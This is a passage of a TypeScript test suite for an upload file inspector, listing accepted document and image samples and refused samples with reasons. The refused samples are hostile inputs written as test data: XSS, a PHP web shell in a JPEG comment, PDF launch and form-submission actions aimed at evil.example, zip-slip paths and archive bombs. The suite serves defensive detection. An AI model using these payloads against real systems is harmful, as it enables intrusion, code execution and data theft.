import { deflateSync } from 'node:zlib';
import { jpegComment, pngChunk, sampleHeic, sampleJpeg, samplePdf, samplePng, sampleUtf16, sampleWebp } from '#libs/testing/sample-files';
import { sampleDocx, sampleOdt, sampleXlsx, sampleZip } from '#libs/testing/sample-zip';
import { countOf } from '#machines/kernel/testing/runs';
import { PdfParser } from './formats/pdf-values.js';
import { inspectFile } from './inspect-file.js';
import { encryptedPdf } from '#libs/testing/encrypted-pdfs';
import type { RefusalReason } from './verdict.js';

const html = Buffer.from('<!DOCTYPE html><html><script>alert(1)</script></html>');
const jar = sampleZip([
  { name: 'META-INF/MANIFEST.MF', data: 'Main-Class: A' },
  { name: 'A.class', data: 'CAFEBABE' },
]);
const joined = (...parts: (Buffer | string)[]): Buffer => Buffer.concat(parts.map((part) => Buffer.from(part as Buffer)));
const replaced = (content: Buffer, at: number, bytes: number[]): Buffer => {
  const copy = Buffer.from(content);
  copy.set(bytes, at);
  return copy;
};
const docxType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const xlsxType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const odtType = 'application/vnd.oasis.opendocument.text';

const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const withRelation = (kind: string, target: string, mode?: string): Buffer =>
  sampleDocx([
    {
      name: 'word/_rels/document.xml.rels',
      data: `<r:Relationships xmlns:r="x"><r:Relationship Id="r1" Type="${relations}/${kind}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ''}/></r:Relationships>`,
    },
  ]);
/** An archive whose main part is known only by its content type. */
const declared = (kind: string, part: string, vendor = 'openxmlformats-officedocument'): Buffer =>
  sampleZip([
    {
      name: '[Content_Types].xml',
      data: `<Types><Override PartName="/${part}" ContentType="application/vnd.${vendor}.${kind}.main+xml"/></Types>`,
    },
    { name: '_rels/.rels', data: '<Relationships/>' },
    { name: part, data: '<a/>' },
  ]);
const drawing = (inside: string): string => `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`;
const odtWith = (inside: string): Buffer =>
  sampleOdt([{ name: 'meta.xml', data: `<m xmlns:xlink="x" xmlns:draw="d" xmlns:meta="m" xmlns:script="s" xmlns:text="t">${inside}</m>` }]);
const odtHonest =
  '<text:a xlink:href="https://registra.example"/><draw:image xlink:href="Pictures/1.png"/><meta:template xlink:href="file:///C:/a.ott"/>';
/** A PDF with additional objects, one text each. */
const pdfWith = (...objects: (string | Buffer)[]): Buffer => {
  const more = objects.map((object, i) => joined(`${i + 8} 0 obj\n`, object, '\nendobj\n'));
  const whole = samplePdf();
  const at = whole.indexOf('xref\n');
  return joined(whole.subarray(0, at), ...more, whole.subarray(at));
};
const flateStream = (text: string, dictionary = '/Filter /FlateDecode'): Buffer => {
  const body = dictionary.includes('/FlateDecode') ? deflateSync(text) : Buffer.from(text);
  return joined(`<< /Length ${body.length} ${dictionary} >>\nstream\r\n`, body, '\nendstream');
};
const objectStream = (object: string, filter = '/FlateDecode'): Buffer =>
  flateStream(
    filter === '/FlateDecode' || filter === '' ? `11 0 ${object}` : 'x9A>',
    `/Type /ObjStm /N 1 /First 5 ${filter && `/Filter ${filter}`}`,
  );
/** A compressed object stream with `objects` as 11, 12 and so on. */
const packedObjects = (...objects: string[]): Buffer => {
  const places = objects.map((_, at) => objects.slice(0, at).join(' ').length + (at > 0 ? 1 : 0));
  const head = `${places.map((place, at) => `${at + 11} ${place}`).join(' ')} `;
  return flateStream(head + objects.join(' '), `/Type /ObjStm /N ${objects.length} /First ${head.length} /Filter /FlateDecode`);
};
const onOpening = (action: string): Buffer => pdfWith(`<< /Type /Catalog /OpenAction ${action} >>`);
const uri = '<< /S /URI /URI (https://registra.example) >>';
const share = '(\\\\\\\\evil.example\\\\share\\\\x.pdf)';
/** A page that begins with figures, which must not be taken for an unreadable object stream. */
const evenedOut = (): Buffer =>
  pdfWith(
    flateStream(
      `${Buffer.from('1 0 << /S /JavaScript /JS (1) >>').toString('hex')}>`,
      '/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode',
    ),
    flateStream('1 0 0 1 0 0 cm 0 0 m 100 100 l S', ''),
  );
const blank200 = Buffer.alloc(200 * 1024 * 1024, ' ');

const good: [string, Buffer, string][] = [
  ['a PDF 1.7', samplePdf(), 'application/pdf'],
  ['a PDF 2.0', samplePdf('BT ET', '2.0'), 'application/pdf'],
  ['a PDF of another version', samplePdf('', '9.0'), 'application/pdf'],
  ['a PDF behind a byte order mark', joined('\ufeff', samplePdf()), 'application/pdf'],
  ['a PDF behind a line end', joined('\r\n', samplePdf()), 'application/pdf'],
  ['a PDF behind the job of a printer', joined('\x1b%-12345X@PJL JOB\r\n', samplePdf()), 'application/pdf'],
  ['a PDF behind a kilobyte', joined(Buffer.alloc(1024, 1), samplePdf()), 'application/pdf'],
  ['a PDF without its last mark', joined(samplePdf().subarray(0, -6)), 'application/pdf'],
  ['a PDF cut short', samplePdf().subarray(0, 200), 'application/pdf'],
  ['a PDF with 2,048 NULs behind its end', joined(samplePdf(), Buffer.alloc(2048)), 'application/pdf'],
  ['a PDF with a comment of an archive behind its end', joined(samplePdf(), '% archived 2026-01-01\n'), 'application/pdf'],
  ['a PDF with a comment of another kind behind its end', joined(samplePdf(), '<!-- page 1 of 1 -->'), 'application/pdf'],
  ['a text about PDF', Buffer.from('A file begins with %PDF-1.7 and goes on.'), 'text/plain'],
  ['a PDF with blanks behind its end', joined(samplePdf(), '\r\n \0\0\n'), 'application/pdf'],
  ['a PDF whose form carries script elements inside', samplePdf(`${' '.repeat(1100)}<script>xfa</script>`), 'application/pdf'],
  ['a PDF with its objects in a stream', pdfWith(objectStream('<< /Type /Catalog >>')), 'application/pdf'],
  ['a PDF with objects in a stream that is not packed', pdfWith(objectStream('<< /Type /Catalog >>', '')), 'application/pdf'],
  ...(['rc4-40', 'rc4', 'aes128', 'aes256'] as const).map((name): [string, Buffer, string] => [
    `a PDF that opens without a password (${name})`,
    encryptedPdf(name),
    'application/pdf',
  ]),
  [
    'a PDF that opens at its second page and links out',
    pdfWith('<< /OpenAction [3 0 R /Fit] /A << /S /URI /URI (https://registra.example) >> >>'),
    'application/pdf',
  ],
  [
    'a form that Adobe Reader may save, as tax offices publish them',
    pdfWith('<< /Type /Sig /Reference [<< /TransformMethod /UR3 /TransformParams << /EF [/Create /Delete /Modify /Import] >> >>] >>'),
    'application/pdf',
  ],
  ['a PDF of somebody who writes JavaScript', samplePdf('BT (HTML/CSS/JavaScript, /Launch of products) Tj ET'), 'application/pdf'],
  [
    'a PDF with a page that begins with figures',
    pdfWith(flateStream('1 0 0 1 72 720 cm BT (HTML/CSS/JavaScript) Tj ET')),
    'application/pdf',
  ],
  [
    'a PDF that opens at a page by an action in an object stream',
    pdfWith(packedObjects('<< /Type /Catalog /OpenAction 12 0 R >>', '<< /S /GoTo /D [3 0 R /Fit] >>')),
    'application/pdf',
  ],
  ['a PDF with links in an object stream', pdfWith(packedObjects('<< /Subtype /Link /A 12 0 R >>', uri)), 'application/pdf'],
  ['a PDF with an address for who presses a button', pdfWith(`<< /Subtype /Widget /AA << /U ${uri} >> >>`), 'application/pdf'],
  ['a PDF whose form is reset by a button', pdfWith('<< /Subtype /Widget /A << /S /ResetForm >> >>'), 'application/pdf'],
  [
    'a PDF with a table of contents in a stream',
    pdfWith(
      flateStream('1 2 3', '/Type /XRef /Size 7 /W [1 3 1] /Root 1 0 R /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 5 >>'),
    ),
    'application/pdf',
  ],
  ['a PDF with an empty object stream', pdfWith(flateStream('', '/Type /ObjStm /N 0 /First 0 /Filter /FlateDecode')), 'application/pdf'],
  [
    'a PDF with a font and a shading called S',
    pdfWith('<< /Resources << /Font << /S 9 0 R >> /Shading << /S 10 0 R >> >> >>', '<< /Type /Font >>', '<< /ShadingType 2 >>'),
    'application/pdf',
  ],
  ['a PDF with odd strings', pdfWith('<< /Title (100% \\(of\\) (it) \\\\) /S /D /Keys <2f4c61756e6368> >>'), 'application/pdf'],
  ['a PNG', samplePng(), 'image/png'],
  ['a PNG of just 100 megapixels', samplePng(10_000, 10_000), 'image/png'],
  ['a PNG with a text chunk', samplePng(2, 2, [pngChunk('tEXt', Buffer.from('Title\0Passport <page 2>'))]), 'image/png'],
  ['a JPEG', sampleJpeg(), 'image/jpeg'],
  ['a JPEG with a comment', sampleJpeg(3, 3, [jpegComment('scanned on Monday')]), 'image/jpeg'],
  ['a JPEG with the preview that cameras append', joined(sampleJpeg(), sampleJpeg(1, 1)), 'image/jpeg'],
  ['a lossless WebP', sampleWebp('VP8L'), 'image/webp'],
  ['a lossy WebP', sampleWebp('VP8 ', 640, 480), 'image/webp'],
  ['an extended WebP', sampleWebp('VP8X', 640, 480), 'image/webp'],
  ['a HEIC', sampleHeic(4032, 3024), 'image/heic'],
  ['a HEIC under the general brand', sampleHeic(4032, 3024, ['mif1', 'mif1', 'heic']), 'image/heic'],
  ['a DOCX', sampleDocx(), docxType],
  [
    'a DOCX with a picture and a sheet embedded',
    sampleDocx([{ name: 'word/media/image1.png', data: samplePng(), stored: true }]),
    docxType,
  ],
  ['an XLSX', sampleXlsx([{ name: 'xl/worksheets/sheet1.xml' }]), xlsxType],
  ['a DOCX with links', withRelation('hyperlink', 'https://registra.example/a', 'External'), docxType],
  ['a DOCX with a template of its author', withRelation('attachedTemplate', 'file:///C:\\Users\\a\\Letter.dotx', 'External'), docxType],
  ['a DOCX with a template on a Mac', withRelation('attachedTemplate', 'file:///Users/a/Letter.dotx', 'External'), docxType],
  ['a DOCX with a template by a path of Windows', withRelation('attachedTemplate', 'C:\\Letter.dotx', 'External'), docxType],
  ['a DOCX with the template of Word', withRelation('attachedTemplate', 'Normal.dotm', 'External'), docxType],
  ['a template of Word', declared('wordprocessingml.template', 'word/main.xml'), docxType],
  ['a DOCX whose main part has another name', declared('wordprocessingml.document', 'word/main.xml'), docxType],
  ['a template of Excel', declared('spreadsheetml.template', 'xl/book.xml'), xlsxType],
  ['a template of OpenDocument', sampleOdt([], `${odtType}-template`), odtType],
  ['a DOCX with a picture of its own', withRelation('image', 'media/image1.png'), docxType],
  ['an ODT', sampleOdt(), odtType],
  [
    'a repacked ODT, its type second',
    sampleZip([{ name: 'content.xml' }, { name: 'mimetype', data: odtType, stored: true }, { name: 'META-INF/manifest.xml' }]),
    odtType,
  ],
  [
    'an ODT with a formula of OpenOffice 3',
    sampleOdt([
      {
        name: 'Object 1/content.xml',
        data: '<!DOCTYPE math:math PUBLIC "-//OpenOffice.org//DTD Modified W3C MathML 1.01//EN" "math.dtd"><math:math/>',
      },
    ]),
    odtType,
  ],
  [
    'a DOCX with a drawing beside its picture',
    sampleDocx([{ name: 'word/media/image1.svg', data: drawing('<a href="#b" fill="url(#c)"/>') }]),
    docxType,
  ],
  ['a text in windows-1251', Buffer.from([0xcf, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2]), 'text/plain'],
  ['a PNG with a NUL and a line end behind it', joined(samplePng(), '\0\r\n'), 'image/png'],
  ['a WebP with a line end behind it', joined(sampleWebp(), '\n'), 'image/webp'],
  ['an ODT with a link, a picture and a template of its author', odtWith(odtHonest), odtType],
  ['a text in UTF-8', Buffer.from('Решение единственного участника\r\n\tпункт 1 < пункт 2\n'), 'text/plain'],
  ['a text with a byte order mark', joined('\ufeff', 'Hello'), 'text/plain'],
  ['a text in UTF-16, little end first', sampleUtf16('Привет', 'le'), 'text/plain'],
  ['a text in UTF-16, big end first', sampleUtf16('Привет', 'be'), 'text/plain'],
  ['a text that begins like a bitmap', Buffer.from('BMW leasing contract'), 'text/plain'],
  ['a text that begins like a program', Buffer.from('MZ is the mark of old programs'), 'text/plain'],
  ['a text with a placeholder in angle brackets', Buffer.from('Dear <company name>, if 3 < 4 then on Monday = today'), 'text/plain'],
  ['a text with letters that take four bytes across pieces', Buffer.from('😀'.repeat(40_000)), 'text/plain'],
];

const bad: [string, Buffer, RefusalReason][] = [
  ['nothing at all', Buffer.alloc(0), 'empty'],
  ['HTML', html, 'activeContent'],
  ['HTML behind blanks', joined('\n\n   ', html), 'activeContent'],
  ['HTML behind a byte order mark', joined('\ufeff', html), 'activeContent'],
  ['HTML in UTF-16', sampleUtf16(html.toString(), 'le'), 'activeContent'],
  ['HTML behind a kilobyte of text', joined('a'.repeat(3000), html), 'activeContent'],
  ['HTML across the border of two pieces', joined('a'.repeat(64 * 1024 - 4), html), 'activeContent'],
  ['an SVG', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'activeContent'],
  ['an SVG behind an XML declaration', Buffer.from('<?xml version="1.0"?><svg/>'), 'activeContent'],
  ['an SVG behind a comment', Buffer.from('<!-- harmless --><svg/>'), 'activeContent'],
  ['any XML', Buffer.from('<?xml version="1.0"?><a/>'), 'activeContent'],
  ['an HTML comment first', Buffer.from('<!-- x'), 'activeContent'],
  ['a picture element with a handler', Buffer.from('hello <img src=x onerror=alert(1)>'), 'activeContent'],
  ['a link that runs', Buffer.from('see <a href="javascript:alert(1)">here</a>'), 'activeContent'],
  ['PHP', Buffer.from('hello <?php system("id") ?>'), 'activeContent'],
  ['a shell script', Buffer.from('#!/bin/sh\nid\n'), 'activeContent'],
  ['a batch file', Buffer.from('@echo off\r\ndel *'), 'activeContent'],
  ['a web archive', Buffer.from('MIME-Version: 1.0\r\nContent-Type: multipart/related'), 'activeContent'],
  ['a calendar', Buffer.from('BEGIN:VCALENDAR\r\nEND:VCALENDAR'), 'activeContent'],
  ['an RTF', Buffer.from('{\\rtf1\\ansi hello}'), 'activeContent'],
  ['PostScript', Buffer.from('%!PS-Adobe-3.0\nshowpage'), 'activeContent'],
  ['an internet shortcut', Buffer.from('[InternetShortcut]\r\nURL=file:///c:/'), 'activeContent'],
  ['a text with a NUL', Buffer.from('a\0b'), 'unknownFormat'],
  ['a text with an escape sequence', Buffer.from('\u001b[2Jhello'), 'unknownFormat'],
  ['a text in windows-1252', Buffer.from('M\xfcller, Z\xfcrich', 'latin1'), 'unknownFormat'],
  ['a text cut inside a letter', Buffer.from([0x61, 0xd0]), 'unknownFormat'],
  ['a text with an overlong form', Buffer.from([0x61, 0xc0, 0xaf]), 'unknownFormat'],
  ['UTF-32', Buffer.from([0xff, 0xfe, 0, 0, 0x61, 0, 0, 0]), 'unknownFormat'],
  ['a GIF', Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1'), 'unknownFormat'],
  ['a GIFAR', joined(Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1'), jar), 'unknownFormat'],
  ['a bitmap', joined('BM', Buffer.alloc(60)), 'unknownFormat'],
  ['a TIFF', joined('II*\0\x08\0\0\0\0\0', Buffer.alloc(8)), 'unknownFormat'],
  ['an executable of Windows', joined('MZ', Buffer.alloc(62), 'PE\0\0'), 'unknownFormat'],
  ['an executable of Linux', joined('\x7fELF\x02\x01\x01', Buffer.alloc(57)), 'unknownFormat'],
  ['an AVIF', sampleHeic(2, 2, ['avif', 'mif1']), 'unknownFormat'],
  ['an MP4', sampleHeic(2, 2, ['isom', 'mp42']), 'unknownFormat'],
  ['a gzip bomb', joined(Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), Buffer.alloc(100)), 'unknownFormat'],
  ['a RAR', joined('Rar!\x1a\x07\0', Buffer.alloc(20)), 'unknownFormat'],
  ['an old Word document', joined(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)), 'unknownFormat'],
  [
    'a DOCX with a password',
    joined(Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), Buffer.from('EncryptedPackage', 'utf16le')),
    'encrypted',
  ],
  ['bytes without a meaning', Buffer.from([0x80, 0x81, 0x01, 0x02]), 'unknownFormat'],
  ['a PDF behind HTML', joined(html, samplePdf()), 'activeContent'],
  ['a PDF behind a script', joined('#!/bin/sh\nid\n', samplePdf()), 'activeContent'],
  ['a PDF behind a program', joined('MZ', Buffer.alloc(62), samplePdf()), 'unknownFormat'],
  ['a PDF behind more than a kilobyte', joined(Buffer.alloc(1025, 1), samplePdf()), 'unknownFormat'],
  ['a PDF that goes on as HTML at once', joined('%PDF-1.7\n', html, samplePdf()), 'activeContent'],
  ['a PDF with HTML behind its end', joined(samplePdf(' '.repeat(2000)), html), 'activeContent'],
  ['a PDF with HTML instead of its end', joined(samplePdf(' '.repeat(2000)).subarray(0, -60), html), 'activeContent'],
  ['a PDF with an archive behind its end', joined(samplePdf(), jar), 'activeContent'],
  [
    'a PDF that is an archive as well',
    joined(samplePdf(), sampleZip([{ name: 'a' }], { comment: 'startxref\n0\n%%EOF' })),
    'activeContent',
  ],
  ['a PDF that runs a script', pdfWith('<< /S /JavaScript /JS (app.alert\\(1\\)) >>'), 'embeddedContent'],
  ['a PDF that runs a script under a name in escapes', pdfWith('<< /S /J#61va#53cript /JS 9 0 R >>'), 'embeddedContent'],
  ['a PDF whose action is named elsewhere', pdfWith('<< /S 9 0 R >>', '/JavaScript'), 'embeddedContent'],
  [
    'a PDF whose action is named in an object stream',
    pdfWith(packedObjects('<< /Type /Catalog /OpenAction << /S 12 0 R >> >>', '/Launch')),
    'embeddedContent',
  ],
  ['a PDF whose address is named elsewhere', pdfWith('<< /OpenAction << /S 9 0 R /URI (x) >> >>', '/URI'), 'embeddedContent'],
  ['a PDF with scripts among its names', pdfWith('<< /Names << /JavaScript 9 0 R >> >>'), 'embeddedContent'],
  ['a PDF with a rendition that runs', pdfWith('<< /S /Rendition /JS (1) >>'), 'embeddedContent'],
  ['a PDF that starts a program', pdfWith('<< /S /Launch /F (cmd.exe) >>'), 'embeddedContent'],
  ['a PDF with a file in it', pdfWith('<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>'), 'embeddedContent'],
  ['a PDF with a file in it, under a list', pdfWith('<< /Type /Filespec /F (a.exe) /EF [<< /F 9 0 R >>] >>'), 'embeddedContent'],
  ['a PDF with files among its names', pdfWith('<< /EmbeddedFiles << /Names [] >> >>'), 'embeddedContent'],
  ['a PDF with a form of XML', pdfWith('<< /AcroForm << /XFA [(a) 9 0 R] >> >>'), 'embeddedContent'],
  ['a PDF with rich media', pdfWith('<< /Type /Annot /Subtype /RichMedia >>'), 'embeddedContent'],
  ['a PDF with a script in an object stream', pdfWith(objectStream('<< /S /JavaScript /JS (1) >>')), 'embeddedContent'],
  ['a PDF with a script far in an object stream', pdfWith(objectStream(`${' '.repeat(400_000)}<< /S /JavaScript >>`)), 'embeddedContent'],
  ['a PDF whose object stream is packed unusually', pdfWith(objectStream('<<>>', '/ASCIIHexDecode')), 'malformed'],
  ['a PDF that is encrypted and hides its objects', pdfWith(`<< /Encrypt 9 0 R >>\n${objectStream('<<>>', '/Crypt')}`), 'encrypted'],
  ['a PDF that opens with AES-128 and runs a script', encryptedPdf('aes128-js'), 'embeddedContent'],
  ['a PDF that opens with AES-256 and runs a script', encryptedPdf('aes256-js'), 'embeddedContent'],
  ['a PDF that opens with RC4 and runs a script', encryptedPdf('rc4-js'), 'embeddedContent'],
  ['a PDF that opens with a password alone', encryptedPdf('aes256-user'), 'encrypted'],
  [
    'a PDF that opens without a password and hides an object stream',
    joined(encryptedPdf('aes256'), '\n90 0 obj\n', objectStream('<<>>', '/LZWDecode'), '\nendobj\n'),
    'encrypted',
  ],
  [
    'a PDF with an object stream under the key of another',
    joined(encryptedPdf('aes256'), '\n90 0 obj\n', objectStream('<<>>'), '\nendobj\n'),
    'encrypted',
  ],
  ['a PDF with two keys', joined(encryptedPdf('aes256'), '\n', encryptedPdf('rc4')), 'encrypted'],
  ['a PDF whose object stream unfolds without end', pdfWith(objectStream('<<>>'.padEnd(70 * 1024 * 1024))), 'unsafeArchive'],
  ['a PDF whose hidden object stream another stream evens out', evenedOut(), 'malformed'],
  ['a PDF whose object stream goes by its keys alone', pdfWith(flateStream('x9A>', '/N 1 /First 5 /Filter /ASCIIHexDecode')), 'malformed'],
  [
    'a PDF whose object stream names its filter in escapes',
    pdfWith(flateStream('x9A>', '/Type /Obj#53tm /N 1 /First 5 /Filter /ASCII85Decode')),
    'malformed',
  ],
  [
    'a PDF whose object stream is predicted',
    pdfWith(flateStream('11 0 <<>>', '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>')),
    'malformed',
  ],
  [
    'a PDF whose object stream has two filters',
    pdfWith(flateStream('11 0 <<>>', '/Type /ObjStm /N 1 /First 5 /Filter /Crypt /Filter /FlateDecode')),
    'malformed',
  ],
  [
    'a PDF whose object stream hides its kind in a string',
    pdfWith(flateStream('x9A>', '/Type /ObjStm /X (obj) /N 1 /First 5 /Filter /LZWDecode')),
    'malformed',
  ],
  ['a PDF that starts a program behind blanks', onOpening(`<< /S${' '.repeat(40)}/Launch /F (calc.exe) >>`), 'embeddedContent'],
  [
    'a PDF that starts a program behind a long comment',
    onOpening(`<< /S %${'x'.repeat(200)}\n/Launch /F (calc.exe) >>`),
    'embeddedContent',
  ],
  [
    'a PDF that starts a program behind a percent sign in a string',
    onOpening(`<< /T (%) /S %${'x'.repeat(200)}\n/#4caunch >>`),
    'embeddedContent',
  ],
  [
    'a PDF with a script behind blanks in an object stream',
    pdfWith(packedObjects(`<< /S${'\0'.repeat(40)}/JavaScript >>`)),
    'embeddedContent',
  ],
  ['a PDF with an object in a string', pdfWith(`(7 0 obj << /S${' '.repeat(40)}/Launch >> endobj)`), 'embeddedContent'],
  ['a PDF that opens another of a share', onOpening(`<< /S /GoToR /F ${share} /D [0 /Fit] >>`), 'embeddedContent'],
  ['a PDF that opens another of its own files', pdfWith('<< /AA << /O << /S /GoToE /F (x) >> >> >>'), 'embeddedContent'],
  ['a PDF that sends a form', onOpening('<< /S /SubmitForm /F (https://evil.example/x) >>'), 'embeddedContent'],
  ['a PDF that fetches data', pdfWith('<< /A << /S /ImportData /F (x) >> >>'), 'embeddedContent'],
  ['a PDF with a film', pdfWith('<< /Type /Annot /Subtype /Movie >>'), 'embeddedContent'],
  ['a PDF that opens an address by itself', onOpening(uri), 'embeddedContent'],
  ['a PDF that opens an address by itself, by a reference', pdfWith('<< /Type /Catalog /OpenAction 9 0 R >>', uri), 'embeddedContent'],
  [
    'a PDF that opens an address after a page',
    pdfWith('<< /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [9 0 R] >> >>', uri),
    'embeddedContent',
  ],
  [
    'a PDF that opens an address with a page, out of an object stream',
    pdfWith(packedObjects('<< /Type /Page /AA 12 0 R >>', '<< /O 13 0 R >>', uri)),
    'embeddedContent',
  ],
  [
    'a PDF that opens an address whose number a comment hides',
    joined(pdfWith('<< /OpenAction 77 0 R >>').subarray(0, -40), `77 %\n0 %\nobj ${uri} endobj\n`, pdfWith().subarray(-40)),
    'embeddedContent',
  ],
  ['a PDF whose stream lies in another file', pdfWith('<< /Length 0 /F (\\\\evil\\x) >>\nstream\n\nendstream'), 'embeddedContent'],
  ['a PDF nested without end', pdfWith('['.repeat(5000)), 'malformed'],
  ['a PNG with more than a kilobyte of NULs behind it', joined(samplePng(), Buffer.alloc(1025)), 'trailingBytes'],
  ...(
    [
      '<script>alert(1)</script>',
      '<rect onload="alert(1)"/>',
      '<foreignObject/>',
      '<image href="https://evil.example/a.png"/>',
      '<rect style="fill:url(https://evil.example/a)"/>',
      '<style>@import "https://evil.example/a.css"</style>',
    ] as const
  ).map((inside): [string, Buffer, RefusalReason] => [
    `a DOCX with a drawing that has ${inside}`,
    sampleDocx([{ name: 'word/media/image1.svg', data: drawing(inside) }]),
    'embeddedContent',
  ]),
  ['a DOCX with a drawing where no picture stands', sampleDocx([{ name: 'word/image1.svg', data: drawing('') }]), 'unsafeArchive'],
  [
    'an ODT with a password',
    sampleZip([
      { name: 'mimetype', data: odtType, stored: true },
      { name: 'content.xml', data: Buffer.from([0x9f, 0x01, 0xff]) },
      {
        name: 'META-INF/manifest.xml',
        data: '<manifest:manifest xmlns:manifest="m"><manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>',
      },
    ]),
    'encrypted',
  ],
  ['a PNG with HTML behind it', joined(samplePng(), html), 'trailingBytes'],
  ['a PNG with an archive behind it', joined(samplePng(), jar), 'trailingBytes'],
  ['a PNG with HTML in a text chunk', samplePng(2, 2, [pngChunk('tEXt', html)]), 'activeContent'],
  ['a PNG with a script in a private chunk', samplePng(2, 2, [pngChunk('prVt', Buffer.from('<script src=x>'))]), 'activeContent'],
  ['a PNG cut in half', samplePng().subarray(0, 50), 'malformed'],
  ['a PNG whose chunk claims 4 GB', replaced(samplePng(), 33, [0xff, 0xff, 0xff, 0xff]), 'unknownFormat'],
  ['a PNG without a picture', joined(samplePng().subarray(0, 33), pngChunk('IEND', Buffer.alloc(0))), 'malformed'],
  ['a PNG of 0 pixels', samplePng(0, 5), 'malformed'],
  ['a PNG of 2^31 by 2^31 pixels', samplePng(2 ** 31 - 1, 2 ** 31 - 1), 'tooManyPixels'],
  ['a PNG just above 100 megapixels', samplePng(10_000, 10_001), 'tooManyPixels'],
  ['a JPEG with PHP in its comment', sampleJpeg(2, 2, [jpegComment('<?php eval($_GET[0]); ?>')]), 'activeContent'],
  ['a JPEG with HTML behind it', joined(sampleJpeg(), html), 'activeContent'],
  ['a JPEG that is an archive as well', joined(sampleJpeg(), jar), 'activeContent'],
  [
    'a JPEG that is an archive with a comment',
    joined(sampleJpeg(), sampleZip([{ name: 'a' }], { comment: 'x', after: Buffer.from('y') })),
    'activeContent',
  ],
  ['a JPEG without an end', sampleJpeg().subarray(0, -2), 'malformed'],
  ['a JPEG without a frame', joined(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 4, 0, 0, 0xff, 0xd9])), 'malformed'],
  ['a JPEG whose segment is shorter than its length', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 1, 0xff, 0xd9]), 'malformed'],
  ['a JPEG of 65,535 by 65,535 pixels', sampleJpeg(65_535, 65_535), 'tooManyPixels'],
  ['a WebP with HTML behind it', joined(sampleWebp(), html), 'trailingBytes'],
  ['a WebP cut short', sampleWebp('VP8X').subarray(0, 34), 'malformed'],
  ['a WebP without a picture', replaced(sampleWebp('VP8 '), 12, [0x4a, 0x55, 0x4e, 0x4b]), 'malformed'],
  ['a WebP of 16,384 by 16,384 pixels', sampleWebp('VP8L', 16_384, 16_384), 'tooManyPixels'],
  ['an extended WebP of 2^24 by 2^24 pixels', sampleWebp('VP8X', 2 ** 24, 2 ** 24), 'tooManyPixels'],
  ['a HEIC with HTML behind it', joined(sampleHeic(), html), 'malformed'],
  ['a HEIC with a page in its data', joined(sampleHeic(), Buffer.from([0, 0, 0, 16]), 'free<svg/>xx'), 'activeContent'],
  ['a HEIC without extents', replaced(sampleHeic(), sampleHeic().indexOf('ispe'), [0x78, 0x78, 0x78, 0x78]), 'malformed'],
  ['a HEIC of 2^32 by 2^32 pixels', sampleHeic(2 ** 32 - 1, 2 ** 32 - 1), 'tooManyPixels'],
  ['a plain archive', sampleZip([{ name: 'a.txt', data: 'a' }]), 'unknownFormat'],
  ['an empty archive', sampleZip([]), 'unknownFormat'],
  [
    'a presentation',
    sampleZip([{ name: '[Content_Types].xml', data: '<Types/>' }, { name: '_rels/.rels' }, { name: 'ppt/presentation.xml' }]),
    'unknownFormat',
  ],
  ['an archive that is a DOCX and an XLSX', sampleDocx([{ name: 'xl/workbook.xml' }]), 'unknownFormat'],
  ['an OpenDocument spreadsheet', sampleOdt([], 'application/vnd.oasis.opendocument.spreadsheet'), 'unknownFormat'],
  ['a jar', jar, 'unsafeArchive'],
  ['a DOCX with a program', sampleDocx([{ name: 'word/setup.exe' }]), 'unsafeArchive'],
  ['a DOCX with a page', sampleDocx([{ name: 'word/afchunk.html' }]), 'unsafeArchive'],
  ['a DOCX with macros', sampleDocx([{ name: 'word/vbaProject.bin' }]), 'macros'],
  ['a DOCX with macros in other letters', sampleDocx([{ name: 'word/VBAPROJECT.BIN' }]), 'macros'],
  ['an XLSX with macro sheets', sampleXlsx([{ name: 'xl/macrosheets/sheet1.xml' }]), 'macros'],
  ['an ODT with Basic', sampleOdt([{ name: 'Basic/Standard/Module1.xml' }]), 'macros'],
  ['a DOCX with a name that climbs', sampleDocx([{ name: '../../etc/cron.d/x' }]), 'unsafeArchive'],
  ['a DOCX with an absolute name', sampleDocx([{ name: '/etc/passwd' }]), 'unsafeArchive'],
  ['a DOCX with a Windows path', sampleDocx([{ name: 'word\\x.xml' }]), 'unsafeArchive'],
  ['a DOCX with one name twice', sampleDocx([{ name: 'word/document.xml' }]), 'unsafeArchive'],
  ['a DOCX with one name in two spellings', sampleDocx([{ name: 'Word/Document.xml' }]), 'unsafeArchive'],
  ['an archive bomb by its directory', sampleDocx([{ name: 'word/a.xml', claim: { uncompressed: 2 ** 32 - 2 } }]), 'unsafeArchive'],
  [
    'an archive bomb that claims to be small',
    sampleDocx([{ name: 'word/a.xml', data: Buffer.alloc(9e6, 1), claim: { uncompressed: 1 } }]),
    'unsafeArchive',
  ],
  ['an archive bomb of many entries', sampleDocx(Array.from({ length: 5001 }, (_, i) => ({ name: `w/${i}`, data: '' }))), 'unsafeArchive'],
  ['an archive bomb of overlapping entries', sampleDocx([{ name: 'word/a.xml', claim: { headerAt: 0 } }]), 'unsafeArchive'],
  ['a DOCX whose local names differ', sampleDocx([{ name: 'word/a.xml', claim: { localName: 'word/b.exe' } }]), 'unsafeArchive'],
  ['an encrypted DOCX', sampleDocx([{ name: 'word/a.xml', claim: { flags: 1 } }]), 'unsafeArchive'],
